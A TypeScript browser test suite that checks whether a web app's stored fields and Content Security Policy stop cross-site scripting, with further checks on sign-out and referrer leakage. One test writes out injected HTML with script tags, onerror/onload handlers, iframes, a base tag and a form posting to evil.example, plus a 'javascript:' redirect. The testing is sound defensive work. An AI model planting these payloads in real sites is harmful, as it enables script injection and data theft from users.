import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { payloads } from '../attacks/payloads.ts'
import { seedOf } from '../faults/support.ts'
import { Api, type Json } from '../http/api/client.ts'
import { closeProfiles, describeInBrowser, openBrowser, openProfile, signIn } from './browser.ts'

const LONG = process.env['LONG'] === '1'
/** Of each kind of thing so many bear a payload; the long form has all of them everywhere. */
const AT_ONCE = LONG ? payloads.length : 3

let api: Awaited<ReturnType<typeof Api.open>>
let browser: Browser
beforeAll(async () => {
  api = await Api.open({ DEV_MAILBOX: 'on' })
  browser = await openBrowser()
})
afterAll(async () => {
  await closeProfiles()
  await api?.app.dispose()
})

/** Keeps payloads in every field that takes them; answers how many were taken. What is refused is in no page. */
const plant = async (
  chosen: readonly string[],
): Promise<{ taken: number; ids: Readonly<Record<string, string[]>> }> => {
  const { accessToken: token, userId } = await api.signIn()
  const ids: Record<string, string[]> = { users: [userId], clients: [], webhooks: [], invites: [] }
  let taken = 0
  const send = async (method: string, path: string, body: Json, as: string = token, headers = {}) => {
    const answer = await api.call(method, path, { token: as, body, headers })
    if (answer.status < 300) taken++
    const { id } = answer.body
    return typeof id === 'string' ? id : ''
  }
  for (const [n, text] of chosen.entries()) {
    const email = `bearer${n}@example.org`
    const { accessToken: own, userId: bearer } = await api.member(token, email, {})
    ids['users']?.push(bearer)
    await send('PATCH', '/me', { name: text }, own)
    await send('POST', '/me/referral-code', { description: text, expiresAt: '2026-09-01T00:00:00.000Z' }, own)
    await send(
      'POST',
      '/sessions',
      { email: 'admin@example.org', password: 'correct-horse-battery' },
      token,
      { 'user-agent': text.replaceAll(/[^\u0020-\u007e]/g, '') },
    )
    ids['clients']?.push(
      await send('POST', '/clients', { name: text, redirectUris: ['https://app.example/callback'] }),
    )
    ids['webhooks']?.push(await send('POST', '/webhooks', { url: 'http://127.0.0.1:9/', description: text }))
    const invited = await send('POST', '/invites', { email: `guest${n}@example.org` })
    await send('DELETE', `/invites/${invited}`, { reason: text })
    ids['invites']?.push(invited)
    await send('PUT', `/users/${bearer}/suspension`, { reason: text })
    await send('POST', '/invites/import', { rows: [{ email: text }, { email: `${n}"${text}"@example.org` }] })
  }
  for (const text of chosen) {
    await send('PATCH', '/settings', { 'brand.name': text.slice(0, 40) })
    await send('PATCH', '/settings', { 'mail.invite.en.lead': text, 'mail.invite.en.subject': text })
  }
  await send('POST', '/invites', { email: 'last@example.org' })
  return { taken, ids }
}

const somewhere = ({ ids }: { ids: Readonly<Record<string, string[]>> }): string[] => {
  const some = (kind: string) => (ids[kind] ?? []).filter((id) => id !== '').slice(LONG ? 0 : -1)
  const q = encodeURIComponent(payloads[0] ?? '')
  return [
    '/',
    '/profile',
    '/profile/sessions',
    '/profile/referrals',
    '/admin',
    `/admin/invites?search=${q}`,
    '/admin/invites',
    '/admin/invites/import',
    '/admin/mails',
    `/admin/users?search=${q}`,
    '/admin/users',
    ...some('users').flatMap((id) => [`/admin/users/${id}`, `/admin/users/${id}/history`]),
    '/admin/clients',
    ...some('clients').map((id) => `/admin/clients/${id}`),
    '/admin/webhooks',
    ...some('webhooks').map((id) => `/admin/webhooks/${id}`),
    ...some('invites').map((id) => `/admin/invites/${id}`),
    '/admin/referrals',
    '/admin/settings/branding',
    '/admin/settings/mail-texts/invite/en',
    '/admin/settings/mail-texts/invite/en/html',
    `/history?tag=${q}&type=${q}`,
    '/history',
    '/history/compare?from=1&to=60',
    '/mailbox/last@example.org',
    `/nothing/${q}?next=${q}`,
    `/?next=javascript:pwned=1`,
  ]
}

/** A page on which nothing has run that is not ours, and which has asked nobody else for anything. */
const watched = async (context: BrowserContext, page: Page) => {
  const asked: string[] = []
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await context.route(
    (url) => url.origin !== api.app.address && url.protocol.startsWith('http'),
    (route) => {
      asked.push(route.request().url())
      return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'globalThis.pwned = 1' })
    },
  )
  return { asked, dialogs, hasRun: () => page.evaluate(() => 'pwned' in globalThis) }
}

describeInBrowser('T26: scripts of others', () => {
  test(`are text in every stored field, on every page: ${AT_ONCE} of ${payloads.length} payloads`, async () => {
    const from = LONG ? 0 : seedOf('payloads') % (payloads.length - AT_ONCE)
    const planted = await plant(payloads.slice(from, from + AT_ONCE))
    expect(planted.taken).toBeGreaterThan(AT_ONCE * 4)
    const { context, page, complaints } = await openProfile(browser, api.app.address)
    const { asked, dialogs, hasRun } = await watched(context, page)
    await signIn(page)
    for (const path of somewhere(planted)) {
      await page.goto(path)
      expect(await hasRun(), path).toBe(false)
      expect(new URL(page.url()).origin, path).toBe(api.app.address)
      const foreign = await page
        .locator(
          'img[src="x"], iframe, object, embed, base, math, [onerror], [onfocus], [onload], a[href^="javascript" i], script:not([src]), meta[http-equiv="refresh" i]',
        )
        .count()
      expect(foreign, path).toBe(0)
    }
    expect([asked, dialogs, complaints]).toStrictEqual([[], [], []])
    await context.close()
  })

  test('would not run if they got into a page: the policy stops them, and without it they do run', async () => {
    const injected = `
      <script>pwned = 1</script><img src="x" onerror="pwned = 1"><svg onload="pwned = 1"></svg>
      <script src="https://evil.example/x.js"></script><link rel="stylesheet" href="https://evil.example/x.css">
      <iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>
      <object data="https://evil.example/x"></object><base href="https://evil.example/">
      <style>body { background: url(https://evil.example/y) }</style><img src="https://evil.example/z.png">
      <form id="stolen" action="https://evil.example/take"><input name="a" value="b"></form>`
    const look = async (path: string, hasPolicy: boolean) => {
      const { context, page, complaints } = await openProfile(browser, api.app.address)
      const { asked, hasRun } = await watched(context, page)
      await context.route(api.app.address + path, async (route) => {
        const response = await route.fetch()
        const { 'content-security-policy': policy = '', ...headers } = response.headers()
        await route.fulfill({
          response,
          headers: hasPolicy ? { ...headers, 'content-security-policy': policy } : headers,
          body: (await response.text()).replace('</main>', `${injected}</main>`),
        })
      })
      await page.goto(path)
      const ran = await hasRun()
      await page.locator('#stolen').evaluate((form: HTMLFormElement) => form.submit())
      await page.waitForTimeout(100)
      const result = {
        ran,
        asked: asked.length,
        stopped: complaints.filter((one) => /Content Security Policy/.test(one)).length,
      }
      await context.close()
      return result
    }
    for (const path of LONG ? ['/', '/register', '/docs', '/mailbox'] : ['/']) {
      const { ran, asked, stopped } = await look(path, true)
      expect([path, ran, asked]).toStrictEqual([path, false, 0])
      expect(stopped).toBeGreaterThanOrEqual(8)
    }
    const open = await look('/', false)
    expect([open.ran, open.asked > 3]).toStrictEqual([true, true])
  })

  test('T50: after the sign-out the way back shows the sign-in, and nothing of what was there', async () => {
    const { context, page } = await openProfile(browser, api.app.address)
    await signIn(page)
    await page.goto('/profile')
    await page.goto('/admin/users')
    await page.locator('form[action="/logout"] button').click()
    await page.waitForURL('/')
    await page.goBack()
    await page.waitForLoadState()
    expect(await page.locator('main').textContent()).not.toContain('bearer')
    expect(await page.locator('[name=password]').count()).toBe(1)
    expect(await context.storageState()).toMatchObject({ origins: [] })
    await context.close()
  })

  test('T33: no other site learns the address of a page that opens something', async () => {
    const { accessToken } = await api.signIn()
    await api.issue(accessToken, 'refers@example.org')
    const { context, page } = await openProfile(browser, api.app.address)
    const referrers: (string | undefined)[] = []
    await context.route('https://other.example/**', (route) => {
      referrers.push(route.request().headers()['referer'])
      return route.fulfill({ status: 200, contentType: 'text/html', body: 'there' })
    })
    await page.goto(`/invites/${await api.inviteToken('refers@example.org')}`)
    await page.evaluate(() => {
      const link = document.createElement('a')
      link.href = 'https://other.example/'
      document.body.append(link)
      link.click()
    })
    await page.waitForURL('https://other.example/')
    expect(referrers).toStrictEqual([undefined])
    await context.close()
  })
})
